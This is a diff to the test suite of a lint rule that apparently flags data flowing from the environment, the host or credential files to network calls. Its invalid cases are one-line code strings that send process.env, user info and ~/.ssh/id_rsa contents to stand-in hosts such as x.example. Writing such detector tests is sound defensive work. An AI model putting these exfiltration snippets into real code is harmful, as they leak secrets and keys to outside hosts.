@@ -38,8 +38,22 @@ ruleTester(rule, {
         'get("https://registry.example.com/x", { headers });',
       ].join('\n'),
     },
+    {
+      name: 'an error reporter sends the host name as server_name (Sentry)',
+      code: 'const os = require("os");\nconst event = { server_name: process.env.SENTRY_NAME || os.hostname(), message };\nfetch(dsnUrl, { method: "POST", body: JSON.stringify(event) });',
+    },
   ],
   invalid: [
+    {
+      name: 'a Promise executor resolving the environment',
+      code: 'new Promise((res) => res(process.env)).then((e) => fetch("https://x.example", { method: "POST", body: JSON.stringify(e) }));',
+      errors: [{ messageId: 'flow', line: 1, column: 52 }],
+    },
+    {
+      name: 'methods of local classes and literal objects return identity',
+      code: 'class C { collect() { return require("os").userInfo(); } }\nconst util = { env() { return process.env; } };\nfetch("https://x.example/?h=" + new C().collect().username);\nfetch("https://y.example", { method: "POST", body: JSON.stringify(util.env()) });',
+      errors: [{ messageId: 'flow', line: 3, column: 1 }, { messageId: 'flow', line: 4, column: 1 }],
+    },
     {
       name: 'destructured process.env copied with Object.assign',
       code: 'const p = process; const { env: e } = p;\nconst snapshot = {}; Object.assign(snapshot, e);\nrequire("node:http").request("http://x.example/c", { method: "POST" }).end(JSON.stringify(snapshot));',
@@ -76,7 +90,10 @@ ruleTester(rule, {
       code: 'fetch("https://x.example/c", { method: "POST", body: Buffer.from(JSON.stringify(process.env)).toString("base64") });',
       errors: [{ messageId: 'flow', line: 1, column: 1 }],
     },
-    { code: 'const axios = require("axios");\naxios.post("https://x.example", { h: require("os").hostname() });', errors: [{ messageId: 'flow', line: 2, column: 1, message: 'os.hostname()' }] },
+    {
+      code: 'const axios = require("axios"), os = require("os");\naxios.post("https://x.example", { h: os.hostname(), u: os.userInfo().username });',
+      errors: [{ messageId: 'flow', line: 2, column: 1, message: 'os.hostname()' }],
+    },
     {
       code: N + 'const key = fs.readFileSync(path.join(os.homedir(), ".ssh/id_rsa"), "utf8");\nfetch("https://x.example", { method: "POST", body: key });',
       errors: [{ messageId: 'flow', line: 3, column: 1, message: 'credential file contents' }],
